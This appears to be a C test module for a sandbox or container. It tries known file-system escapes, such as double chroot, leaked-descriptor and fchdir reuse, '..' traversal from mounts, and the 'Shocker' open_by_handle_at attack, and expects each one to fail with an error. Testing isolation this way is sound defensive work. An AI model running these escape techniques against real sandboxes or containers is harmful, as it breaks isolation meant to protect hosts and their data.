/* Ways to the file system outside: chroot(2), `..`, descriptors, handles. */
#include "probe.h"
#include <sys/stat.h>

static int up(void) {
  for (int i = 0; i < 64; i++) if (chdir("..") != 0) return errno;
  return 0;
}

/* The path of the secret, from wherever `..` ends. */
static int secret_from_here(void) { return secret_at(AT_FDCWD, value("secret") + 1); }

static int chroot_again(const char *folder) {
  mkdir(folder, 0755);
  if (chroot(folder) != 0) return errno;
  up();
  if (chroot(".") != 0) return errno;
  return secret_from_here();
}

static int double_chroot(const char *folder) {
  return chdir("/") ? errno : chroot_again(folder);
}

static int held_root(const char *folder) {
  int root = open("/", O_RDONLY | O_DIRECTORY);
  mkdir(folder, 0755);
  if (chroot(folder) != 0 || chdir("/") != 0 || fchdir(root) != 0) return errno;
  up();
  if (chroot(".") != 0) return errno;
  return secret_from_here();
}

/* From every mount point, every open folder and every folder at the top. */
static int dot_dot(const char *list) {
  char line[4096], path[4096];
  FILE *file = fopen(list, "r");
  while (file && fgets(line, sizeof line, file)) {
    if (sscanf(line, "%*s %*s %*s %*s %4095s", path) != 1 || chdir(path) != 0) continue;
    up();
    if (secret_from_here() == 0) return 0;
  }
  return ENOENT;
}

static int leaked_descriptor(const char *path) {
  int error = EBADF;
  for (int fd = 3; fd < 256; fd++) {
    int found = secret_at(fd, path);
    if (found == 0) return 0;
    if (found != EBADF) error = found;
  }
  return error;
}

static int fchdir_leaked(const char *path) {
  int error = EBADF;
  for (int fd = 0; fd < 256; fd++) {
    if (fchdir(fd) != 0) continue;
    error = secret_at(AT_FDCWD, path);
    if (error == 0) return 0;
  }
  return error;
}

static int left_folder(const char *path) {
  char text[4096];
  ssize_t length = syscall(SYS_getcwd, text, sizeof text);
  if (length > 0 && text[0] != '/') return 0;
  return secret_at(AT_FDCWD, path);
}

/* Shocker: a handle made outside, opened by whatever mount is in sight. */
static int by_handle(const char *unused) {
  struct { struct file_handle head; unsigned char bytes[128]; } handle;
  unsigned type, byte;
  int count = 0, error = 0, used;
  const char *text = value("handle");
  (void) unused;
  if (sscanf(text, "%u:%n", &type, &used) != 1) return 253;
  for (text += used; sscanf(text, "%2x", &byte) == 1; text += 2) handle.head.f_handle[count++] = byte;
  handle.head.handle_type = (int) type;
  handle.head.handle_bytes = (unsigned) count;
  const char *mounts[] = {"/", "/etc", "/usr/bin", "/tmp", value("loot"), "/proc/self"};
  for (int i = 0; i < 6; i++) {
    error = secret_in(open_by_handle_at(open(mounts[i], O_RDONLY), &handle.head, O_RDONLY));
    if (error == 0) return 0;
  }
  return error;
}

struct probe roots[] = {
    {"double-chroot", "chroot(2) below a folder, then up", "ENOENT EPERM", "chroot", "", double_chroot, "/tmp/d"},
    {"chroot-held-root", "chroot(2) with the root held open, fchdir(2), up", "ENOENT EPERM", "chroot", "", held_root, "/tmp/d"},
    {"dot-dot", "`..` from every mount", "ENOENT", "plain", "", dot_dot, "/proc/self/mountinfo"},
    {"leaked-descriptor", "openat(2) below a folder that the caller had open", "EBADF ENOTDIR", "chroot", "", leaked_descriptor, "secret"},
    {"leaked-fchdir", "fchdir(2) to it", "EBADF ENOENT", "chroot", "", fchdir_leaked, "secret"},
    {"leaked-cwd", "the caller's working directory", "ENOENT", "chroot", "", left_folder, "secret"},
    {"open-by-handle", "open_by_handle_at(2) of the secret (Shocker)", "EPERM ENOSYS", "plain", "", by_handle, ""},
    {0}};
